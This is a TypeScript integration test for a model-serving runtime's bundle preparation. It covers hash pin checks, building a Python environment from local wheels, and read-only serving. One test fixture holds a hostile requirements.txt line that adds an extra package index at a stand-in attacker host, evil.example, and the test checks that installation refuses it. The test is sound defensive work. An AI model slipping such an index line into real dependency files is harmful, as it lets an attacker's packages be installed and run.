// The pod's two steps as processes: `main.ts prepare` (the init container: fetch, verify, unpack, build the Python
// environment, record it) and then the server with MODELSHIP_BUNDLE_PREPARED, which loads what was prepared with
// no storage settings at all. (That the serving container's mounts are read-only is tested on the real node.)
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { packBundle } from '../../cli/pack.ts';
import { binaries } from '../../env/build.ts';
import { loadConfig } from '../../runtime/config.ts';
import { PREPARED_FILE } from '../../runtime/bundle/index.ts';
import { type Runtime, start } from '../../runtime/server.ts';
import { makeBundle, silent } from './helpers.ts';
import { wheel } from './zip-writer.ts';

const MAIN = join(import.meta.dirname, '../../runtime/main.ts');
const runtimes: Runtime[] = [];
afterAll(async () => {
  await Promise.all(runtimes.map((r) => r.shutdown()));
});

async function prepare(env: Record<string, string>, role = 'prepare'): Promise<{ code: number; stderr: string; termination: string }> {
  const termination = join(await mkdtemp(join(tmpdir(), 'prep-term-')), 'log');
  try {
    const r = await promisify(execFile)(process.execPath, [MAIN, role], {
      env: { PATH: process.env.PATH, MODELSHIP_TERMINATION_LOG: termination, ...env },
    });
    return { code: 0, stderr: r.stderr, termination: '' };
  } catch (err) {
    const e = err as { code: number; stderr: string };
    return { code: e.code, stderr: e.stderr, termination: await readFile(termination, 'utf8').catch(() => '') };
  }
}

describe('main.ts prepare, then the server with MODELSHIP_BUNDLE_PREPARED', () => {
  it('prepares a Python bundle with requirements (verified zip, environment built), then serves it read-only', async () => {
    const dir = await makeBundle({
      'predict.py': 'import msgreet\ndef predict(x):\n    return {"output": msgreet.GREETING}\n',
      'requirements.txt': 'msgreet==1.0\n',
    });
    await mkdir(join(dir, 'wheels'));
    const w = wheel('msgreet', '1.0', "GREETING = 'hello'\n");
    await writeFile(join(dir, 'wheels', w.file), w.data);
    const zip = await packBundle(dir, join(await mkdtemp(join(tmpdir(), 'prep-zip-')), 'bundle.zip'));
    const work = await mkdtemp(join(tmpdir(), 'prep-work-'));
    const envs = await mkdtemp(join(tmpdir(), 'prep-envs-'));
    const common = {
      MODELSHIP_BUNDLE_URI: zip.file,
      MODELSHIP_WORK_DIR: work,
      MODELSHIP_PYTHON_ENV_DIR: envs,
      MODELSHIP_PYTHON: binaries().python,
      MODELSHIP_UV: binaries().uv,
    };
    // A wrong pin: refused with its code in the termination log, nothing recorded.
    const bad = await prepare({ ...common, MODELSHIP_BUNDLE_SHA256: '0'.repeat(64) });
    expect(bad.code).toBe(1);
    expect(bad.termination).toMatch(/^MS_ERR_BUNDLE_SHA256_MISMATCH: /);
    // prepare, with the keys (none here: a file); then install, with none, builds the environment.
    const ok = await prepare({ ...common, MODELSHIP_BUNDLE_SHA256: zip.sha256 });
    expect(ok.code, ok.stderr).toBe(0);
    const installed = await prepare(common, 'install');
    expect(installed.code, installed.stderr).toBe(0);
    const record = JSON.parse(await readFile(join(work, PREPARED_FILE), 'utf8'));
    expect(record).toMatchObject({ sha256: zip.sha256, dir: join(work, 'bundle') });
    expect(record.pythonEnv.path.startsWith(envs)).toBe(true);

    // The serving side: a URI it could not fetch, and no keys; it loads what was prepared.
    const config = loadConfig(
      { ...common, MODELSHIP_BUNDLE_URI: 's3://nowhere/bundle.zip', MODELSHIP_BUNDLE_PREPARED: 'true' },
      { host: '127.0.0.1', port: 0, grpcPort: 0 },
    );
    expect(config.s3.secretKey).toBeUndefined();
    const runtime = await start(config, silent);
    runtimes.push(runtime);
    await runtime.loaded;
    expect(runtime.model.bundleSha256).toBe(zip.sha256);
    const r = await runtime.app.inject({
      method: 'POST',
      url: `/v2/models/${runtime.model.name}/infer`,
      payload: { inputs: [{ name: 'x', shape: [1], datatype: 'BYTES', data: ['a'] }] },
    });
    expect(r.statusCode, r.body).toBe(200);
    expect(r.json().outputs[0].data).toEqual(['hello']);
  });

  it('refuses a requirements.txt that names its own index, naming the line', async () => {
    const dir = await makeBundle({
      'predict.py': 'def predict(x):\n    return x\n',
      'requirements.txt': 'six==1.16.0\n--extra-index-url https://evil.example/simple\n',
    });
    const env = {
      MODELSHIP_BUNDLE_URI: dir,
      MODELSHIP_WORK_DIR: await mkdtemp(join(tmpdir(), 'prep-work-')),
      MODELSHIP_PYTHON_ENV_DIR: await mkdtemp(join(tmpdir(), 'prep-envs-')),
      MODELSHIP_PYTHON: binaries().python,
      MODELSHIP_UV: binaries().uv,
    };
    expect((await prepare(env)).code).toBe(0);
    const r = await prepare(env, 'install');
    expect(r.code).toBe(1);
    expect(r.termination).toMatch(
      /^MS_ERR_PYTHON_DEPS_FAILED: .*requirements\.txt line 2 \(--extra-index-url https:\/\/evil\.example\/simple\): --extra-index-url names a package index/,
    );
  });
});
